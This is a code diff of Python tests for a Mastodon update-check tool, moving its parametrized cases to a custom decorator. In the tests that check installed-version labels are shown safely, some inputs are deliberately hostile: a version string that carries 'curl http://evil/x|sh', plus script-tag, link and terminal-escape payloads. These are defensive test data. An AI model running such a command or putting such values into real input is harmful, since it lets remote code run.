@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from domain.examples import cases
 from mastodon_update_check.domain.identities import identity
 from mastodon_update_check.domain.notices import UpdateNotice
 from mastodon_update_check.domain.versions import MastodonVersion
@@ -36,16 +37,14 @@ def test_every_real_version_is_read(text: str) -> None:
     assert version.text == re.sub("[ ()]+", "_", text)
 
 
-@pytest.mark.parametrize(
-    ("text", "shown"),
-    [
-        ("v4.5.20+meta", "4.5.20+meta"),
-        ("4.5.1; curl http://evil/x|sh #", "4.5.1_curl_http_evil_x_sh_"),
-        ("4.5.1 [click](http://evil.example)", "4.5.1_click_http_evil.example_"),
-        ("4.5.1<b>+<script>", "4.5.1_b_+_script_"),
-        ("4.5.1-" + "x" * 90 + "+" + "y" * 90, "4.5.1-" + "x" * 59 + "+" + "y" * 60),
-        ("4.5.1+\N{SNOWMAN}\x1b[31m", "4.5.1+_31m"),
-    ],
+@cases(
+    "text shown",
+    ("v4.5.20+meta", "4.5.20+meta"),
+    ("4.5.1; curl http://evil/x|sh #", "4.5.1_curl_http_evil_x_sh_"),
+    ("4.5.1 [click](http://evil.example)", "4.5.1_click_http_evil.example_"),
+    ("4.5.1<b>+<script>", "4.5.1_b_+_script_"),
+    ("4.5.1-" + "x" * 90 + "+" + "y" * 90, "4.5.1-" + "x" * 59 + "+" + "y" * 60),
+    ("4.5.1+\N{SNOWMAN}\x1b[31m", "4.5.1+_31m"),
 )
 def test_labels_are_shown_safely(text: str, shown: str) -> None:
     """An installed version may hold anything; people see only harmless characters, and at most 60 of a label."""
@@ -84,25 +83,23 @@ def test_order_is_that_of_rubygems(older: str, newer: str) -> None:
     assert MastodonVersion.parse(older) < MastodonVersion.parse(newer)
 
 
-@pytest.mark.parametrize(
-    ("label", "release"),
-    [
-        pytest.param("4.5.9-kronk.1.7.0", "4.5.9", id="a fork's own number"),
-        pytest.param("4.6.3-bark", "4.6.3", id="a fork's word"),
-        pytest.param("4.7.1-260625", "4.7.1", id="a date without a word"),
-        pytest.param("4.1.25~moew", "4.1.25", id="a tilde, which RubyGems cannot read"),
-        pytest.param("3.5.10 06f906acac", "3.5.10", id="a commit behind a blank, which RubyGems cannot read"),
-        pytest.param("4.2.14_ef67daisuki_club", "4.2.14", id="an underscore, which RubyGems cannot read"),
-        pytest.param("4.3.3.-theconnector-.0.1.0", "4.3.3", id="parts glued with dots, which RubyGems cannot read"),
-        pytest.param("4.7.0-", "4.7.0", id="nothing behind the dash, which RubyGems cannot read"),
-        pytest.param("4.7.0-rcfoo", "4.7.0", id="a word that only begins like a stage"),
-        pytest.param("4.7.0-alphabet", "4.7.0", id="another one"),
-        pytest.param("4.7.0-rc12a", "4.7.0", id="a stage whose number is none"),
-        pytest.param("4.7.0-nightlybuild", "4.7.0", id="a word that only begins like a nightly"),
-        pytest.param("4.5.11-EXQ1.00+glitch", "4.5.11", id="a fork's word and build metadata"),
-        pytest.param("4.2.0-dev.0", "4.2.0", id="dev: RubyGems has it between beta and nightly; no release was so"),
-        pytest.param("4.5.9-kronk.rc.1", "4.5.9", id="a stage of the fork's own, not of Mastodon's"),
-    ],
+@cases(
+    "label release",
+    ("a fork's own number", "4.5.9-kronk.1.7.0", "4.5.9"),
+    ("a fork's word", "4.6.3-bark", "4.6.3"),
+    ("a date without a word", "4.7.1-260625", "4.7.1"),
+    ("a tilde, which RubyGems cannot read", "4.1.25~moew", "4.1.25"),
+    ("a commit behind a blank, which RubyGems cannot read", "3.5.10 06f906acac", "3.5.10"),
+    ("an underscore, which RubyGems cannot read", "4.2.14_ef67daisuki_club", "4.2.14"),
+    ("parts glued with dots, which RubyGems cannot read", "4.3.3.-theconnector-.0.1.0", "4.3.3"),
+    ("nothing behind the dash, which RubyGems cannot read", "4.7.0-", "4.7.0"),
+    ("a word that only begins like a stage", "4.7.0-rcfoo", "4.7.0"),
+    ("another one", "4.7.0-alphabet", "4.7.0"),
+    ("a stage whose number is none", "4.7.0-rc12a", "4.7.0"),
+    ("a word that only begins like a nightly", "4.7.0-nightlybuild", "4.7.0"),
+    ("a fork's word and build metadata", "4.5.11-EXQ1.00+glitch", "4.5.11"),
+    ("dev: RubyGems has it between beta and nightly; no release was so", "4.2.0-dev.0", "4.2.0"),
+    ("a stage of the fork's own, not of Mastodon's", "4.5.9-kronk.rc.1", "4.5.9"),
 )
 def test_label_counts_as_its_release(label: str, release: str) -> None:
     """RubyGems has labels below their release and offers a server its own version; here they count as it."""
@@ -130,18 +127,16 @@ def test_spellings_of_one_version_are_equal(name: str, spellings: tuple[str, ...
     assert len({identity(UpdateNotice(version=version)) for version in found}) == 1
 
 
-@pytest.mark.parametrize(
-    ("text", "asked"),
-    [
-        pytest.param("4.3.0-beta2+my-fork", "4.3.0-beta2", id="Mastodon's own example"),
-        pytest.param("4.5.0+meta+hometown-1.1.2", "4.5.0", id="two plus signs: up to the first"),
-        pytest.param("v4.7.0", "4.7.0", id="a leading v"),
-        pytest.param("  4.7.0  ", "4.7.0", id="blanks around"),
-        pytest.param("v 4.7.0 +x", "4.7.0", id="blanks behind the v and before the plus"),
-        pytest.param("3.5.10 06f906acac", "3.5.10 06f906acac", id="a label is part of the question"),
-        pytest.param("4.5.10+-zach (with modifications)", "4.5.10", id="blanks in the build metadata"),
-        pytest.param("1.0.7+3.5.5", "1.0.7", id="old Hometown: its own number stands first"),
-    ],
+@cases(
+    "text asked",
+    ("Mastodon's own example", "4.3.0-beta2+my-fork", "4.3.0-beta2"),
+    ("two plus signs: up to the first", "4.5.0+meta+hometown-1.1.2", "4.5.0"),
+    ("a leading v", "v4.7.0", "4.7.0"),
+    ("blanks around", "  4.7.0  ", "4.7.0"),
+    ("blanks behind the v and before the plus", "v 4.7.0 +x", "4.7.0"),
+    ("a label is part of the question", "3.5.10 06f906acac", "3.5.10 06f906acac"),
+    ("blanks in the build metadata", "4.5.10+-zach (with modifications)", "4.5.10"),
+    ("old Hometown: its own number stands first", "1.0.7+3.5.5", "1.0.7"),
 )
 def test_version_that_is_asked(text: str, asked: str) -> None:
     """The update server is asked for the text before the first plus, trimmed, without a leading v."""
@@ -149,23 +144,21 @@ def test_version_that_is_asked(text: str, asked: str) -> None:
     assert version.asked == asked
 
 
-@pytest.mark.parametrize(
-    ("text", "message"),
-    [
-        pytest.param("4.7.0" + "0" * 196, "a version of 201 characters (at most 200)", id="201 characters"),
-        pytest.param("4.7.0\u00e4", "'4.7.0\u00e4' is not a version: expected printable ASCII", id="non-ASCII"),
-        pytest.param("\u0664.7.0", "'\u0664.7.0' is not a version: expected printable ASCII", id="other digits"),
-        pytest.param("4.7.0\x00", "'4.7.0' is not a version: expected printable ASCII", id="a control character"),
-        pytest.param("4.7.0\n", "'4.7.0' is not a version: expected printable ASCII", id="a newline at the end"),
-        pytest.param("\t4.7.0", "'4.7.0' is not a version: expected printable ASCII", id="a tab"),
-        pytest.param("latest", "'latest' is not a version: expected three numbers at the start", id="a word"),
-        pytest.param("", "'' is not a version: expected three numbers at the start", id="nothing"),
-        pytest.param("+glitch", "'+glitch' is not a version: expected three numbers at the start", id="only metadata"),
-        pytest.param("4..7", "'4..7' is not a version: expected three numbers at the start", id="a number missing"),
-        pytest.param("4.7", "'4.7' is not a version: expected three numbers at the start", id="two numbers"),
-        pytest.param("vv4.7.0", "'vv4.7.0' is not a version: expected three numbers at the start", id="two v"),
-        pytest.param("-4.7.0", "'-4.7.0' is not a version: expected three numbers at the start", id="a sign"),
-    ],
+@cases(
+    "text message",
+    ("201 characters", "4.7.0" + "0" * 196, "a version of 201 characters (at most 200)"),
+    ("non-ASCII", "4.7.0\u00e4", "'4.7.0\u00e4' is not a version: expected printable ASCII"),
+    ("other digits", "\u0664.7.0", "'\u0664.7.0' is not a version: expected printable ASCII"),
+    ("a control character", "4.7.0\x00", "'4.7.0' is not a version: expected printable ASCII"),
+    ("a newline at the end", "4.7.0\n", "'4.7.0' is not a version: expected printable ASCII"),
+    ("a tab", "\t4.7.0", "'4.7.0' is not a version: expected printable ASCII"),
+    ("a word", "latest", "'latest' is not a version: expected three numbers at the start"),
+    ("nothing", "", "'' is not a version: expected three numbers at the start"),
+    ("only metadata", "+glitch", "'+glitch' is not a version: expected three numbers at the start"),
+    ("a number missing", "4..7", "'4..7' is not a version: expected three numbers at the start"),
+    ("two numbers", "4.7", "'4.7' is not a version: expected three numbers at the start"),
+    ("two v", "vv4.7.0", "'vv4.7.0' is not a version: expected three numbers at the start"),
+    ("a sign", "-4.7.0", "'-4.7.0' is not a version: expected three numbers at the start"),
 )
 def test_texts_that_are_not_versions(text: str, message: str) -> None:
     """A text that cannot be ordered is an error with the reason, on one line."""
